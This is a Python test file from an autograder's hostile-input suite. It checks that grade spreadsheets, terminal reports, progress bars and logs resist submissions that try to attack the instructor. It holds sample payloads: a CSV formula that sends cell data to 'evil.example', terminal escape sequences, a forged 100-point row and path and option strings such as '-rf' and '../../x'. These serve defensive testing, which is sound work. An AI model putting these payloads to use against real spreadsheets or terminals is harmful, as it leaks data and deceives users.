"""Attack the instructor: the table of grades, what is printed in a terminal, and what is logged."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import logging
import re
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path

from rich.console import Console

from autograder.intake import collect, safe_student_id
from autograder.referee import grade_notebook
from autograder.report import print_report, write_grades
from autograder.submission import Outcome, Submission, TaskResult
from tests.hostile.bench import BENCH, LIMITS, SEED, notebook
from tests.hostile.handed_in import RELEASED, plain, write
from tests.hostile.technique import Seen, Technique, register

CLEAN = "what comes from a submission is printed as one line of plain text"
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x1b[31m\x9b5n\u202e\x00\x08"
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"click")'


def instructor(
    name: str,
    tries: str,
    layer: str,
    attack: Callable[[], bool],
    neighbour: Callable[[], bool],
    *,
    control: Callable[[], bool] | None = None,
    without: Callable[[], bool] | None = None,
    gap: str = "",
) -> None:
    """Register a technique whose attack is either seen to reach the instructor or not."""

    def share(look: Callable[[], bool]) -> Callable[[], Seen]:
        return lambda: Seen(float(look()))

    register(
        Technique(
            "attack the instructor",
            name,
            tries,
            layer,
            control=share(control or neighbour),
            attack=share(attack),
            without=share(without) if without else None,
            neighbour=share(neighbour),
            gap=gap,
        )
    )


def outcome(student: str = "mallory", reason: str = "", note: str = "") -> Outcome:
    """Return an outcome with words of a submission wherever such words can stand."""
    results = (TaskResult("double", 1.0, 2.0, (reason,) if reason else ()), TaskResult("center", 1.0, 1.0))
    return Outcome(student, "bench", "partly graded", reason, (note,) if note else (), results)


# ---------------------------------------------------------------------------------------------------------------
# Spreadsheets

STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def table(*outcomes: Outcome) -> str:
    with tempfile.TemporaryDirectory() as place:
        write_grades(outcomes, Path(place) / "grades.csv")
        return (Path(place) / "grades.csv").read_text(encoding="utf-8")


def formulas(text: str, separator: str = ",") -> list[str]:
    """Return the cells that a spreadsheet would compute, if it takes this for the separator."""
    cells = [c for row in csv.reader(io.StringIO(text), delimiter=separator) for c in row]
    return [c for c in cells if c.startswith(STARTS)]


def _lines(*starts: str) -> str:
    return "".join(table(outcome(reason=f"{s}{FORMULA}", note=f"{s}{FORMULA}")) for s in starts)


instructor(
    "a formula among the grades",
    "A reason or a note begins like a formula, after blanks, invisible marks or a line break.",
    "no cell of grades.csv begins like a formula",
    attack=lambda: bool(formulas(_lines("", " ", "\t", "\r\n", "\u200b", "\x1b[0m", '"', "\x00"))),
    neighbour=lambda: "x = 1 - 2, as in `a=b`" in table(outcome(reason="x = 1 - 2, as in `a=b`")),
    without=lambda: bool(formulas(FORMULA.replace(",", ";"))),
)

instructor(
    "a formula behind another separator",
    "Where a spreadsheet separates by semicolons or tabs, a text holds one, and a formula behind it.",
    "no formula stands behind anything that may separate",
    attack=lambda: any(
        formulas(table(outcome(reason=f"x{s}{FORMULA}", note=f'handed in as "a{s} {FORMULA}"')), s) for s in ";|\t"
    ),
    neighbour=lambda: "one; two = three" in table(outcome(note="one; two = three")),
    without=lambda: bool(formulas(f"x;{FORMULA}", ";")),
)

instructor(
    "a formula in wide letters",
    "A cell begins with a full-width equals sign, which spreadsheets in East Asia take for a formula.",
    "no cell of grades.csv begins like a formula",
    attack=lambda: bool(formulas(_lines("\uff1d", "\uff0b", "\uff0d", "\uff20"))),
    neighbour=lambda: "half \uff1d wide" in table(outcome(reason="half \uff1d wide")),
)

instructor(
    "a row of one's own",
    "Quotes, commas and line breaks end the cell, and begin a row that says 100 points.",
    "cells are quoted, and what breaks a line is taken out of them",
    attack=lambda: len(table(outcome(reason='x"\n"mallory","bench","graded",100\r\u2028a,b,c')).splitlines()) != 2,
    neighbour=lambda: '"a ""quoted"" text, with commas"' in table(outcome(reason='a "quoted" text, with commas')),
    without=lambda: len("x\nmallory,bench,graded,100".splitlines()) != 1,
)

instructor(
    "a name that is a formula or a path",
    "The student's name is a formula, a path, an option of a command, or HTML.",
    "an id is made of letters, digits, `-`, `.` and `_`, and begins with no sign",
    attack=lambda: any(
        re.search(r"[^\w.-]|^[.\-+=@]|\.\.$", safe_student_id(n), re.ASCII) is not None
        for n in (FORMULA, "=1", "-rf", "../../x", "@x", "<script>", "[red]x", "a;b", ESCAPES, "x" * 999, "")
    ),
    neighbour=lambda: safe_student_id("Grace-Hopper_1906") == "Grace-Hopper_1906",
)

# ---------------------------------------------------------------------------------------------------------------
# Terminals


def printed(*outcomes: Outcome) -> str:
    console = Console(file=io.StringIO(), width=120, force_terminal=True)
    print_report(console, outcomes)
    return console.file.getvalue()  # type: ignore[attr-defined,no-any-return]


def dangerous(text: str) -> bool:
    """Whether there is a character in it that moves, asks or deceives a terminal, colours left aside."""
    return (
        re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", re.sub(r"\x1b\[[\d;]*m", "", text))
        is not None
    )


instructor(
    "escapes in the report",
    "A reason clears the screen, sets the window's title, asks the terminal for input, or turns a line around.",
    CLEAN,
    attack=lambda: dangerous(printed(outcome(reason=f"a{ESCAPES}b", note=ESCAPES), outcome("b", f"[red]x{ESCAPES}"))),
    neighbour=lambda: "in [red] brackets" in printed(outcome(reason="in [red] brackets")),
    without=lambda: dangerous(ESCAPES),
)


@contextlib.contextmanager
def heard() -> Iterator[io.StringIO]:
    """Collect what is printed, logged and warned of, by anybody."""
    said = io.StringIO()
    handler = logging.StreamHandler(said)
    loggers = [logging.getLogger(), logging.getLogger("traitlets")]
    for logger in loggers:
        logger.addHandler(handler)
    try:
        with contextlib.redirect_stdout(said), contextlib.redirect_stderr(said):
            yield said
    finally:
        for logger in loggers:
            logger.removeHandler(handler)


def in_the_progress() -> bool:
    """Whether a name with escapes and markup reaches the bar that shows who was graded last."""
    from autograder import cli

    name = safe_student_id(f"[red]x{ESCAPES}[/]")
    with heard() as said, cli._progress() as shown:
        shown(1, 2, outcome(name))
        shown(2, 2, outcome(name))
    return dangerous(re.sub(r"\x1b\[[?\d;]*[A-Za-z]|\r", "", said.getvalue()))


instructor(
    "escapes in the progress bar",
    "The name of the student who was graded last is shown while the run goes on.",
    "an id is made of letters, digits, `-`, `.` and `_`, and begins with no sign",
    attack=in_the_progress,
    neighbour=lambda: "mallory" in safe_student_id("mallory"),
)


def _collected(files: dict[str, bytes]) -> tuple[str, list[Submission]]:
    with tempfile.TemporaryDirectory() as place, heard() as said:
        for name, content in files.items():
            write(Path(place) / "in" / name, content)
        release = write(Path(place) / "release.ipynb", plain(RELEASED))
        found = collect(Path(place) / "in", Path(place) / "out", ["bench"], {"bench": release})
    return said.getvalue() + printed(*(outcome(s.student, "; ".join([s.problem, *s.notes])) for s in found)), found


def _odd_files() -> str:
    broken = json.dumps({**plain(RELEASED), "nbformat": 3, "metadata": {ESCAPES: ESCAPES}}).encode()
    named = "\x1b[2J\x1b]0;owned\x07\u202e"
    said, _ = _collected({f"a{named}/{named}.ipynb": broken, "b/x.ipynb": ESCAPES.encode(), f"c/{named}.pdf": b""})
    return said


instructor(
    "escapes in names and problems of files",
    "Names of files and folders, and what is wrong with them, hold escapes.",
    CLEAN,
    attack=lambda: dangerous(_odd_files()),
    neighbour=lambda: "übung.ipynb" in _collected({"ada/übung.ipynb": json.dumps(plain(RELEASED)).encode()})[0],
)


def _logged(source: str) -> str:
    """Return what is printed and logged while a notebook with this cell is graded, and what is reported of it."""
    with heard() as said:
        results = grade_notebook(notebook({"last": source}), BENCH, SEED, limits=LIMITS)
    return said.getvalue() + printed(Outcome("mallory", "bench", "graded", results=results))


TROUBLE = """
class Trouble(Exception):
    __str__ = __repr__ = lambda self: {escapes!r}
Trouble.__name__ = Trouble.__qualname__ = {escapes!r}
def center(x):
    print({escapes!r})
    raise Trouble
raise Trouble
"""
KIND = """
kernel = get_ipython().kernel
kernel.session.send(kernel.iopub_socket, {escapes!r}, content={{}}, parent=kernel.get_parent())
"""

instructor(
    "escapes in errors",
    "Exceptions whose name and message are escapes are raised in cells and in what the referee asks.",
    CLEAN,
    attack=lambda: dangerous(_logged(TROUBLE.format(escapes=ESCAPES))),
    neighbour=lambda: "raised on purpose" in _logged("def center(x):\n    raise ValueError('raised on purpose')"),
)

instructor(
    "escapes in the kernel's messages",
    "The kernel sends a message of a kind that nobody knows, whose name is escapes: a library logs it.",
    "what libraries have to say of a submission is not logged",
    attack=lambda: dangerous(_logged(KIND.format(escapes=ESCAPES))),
    neighbour=lambda: not dangerous(_logged("print('hello')")),
)
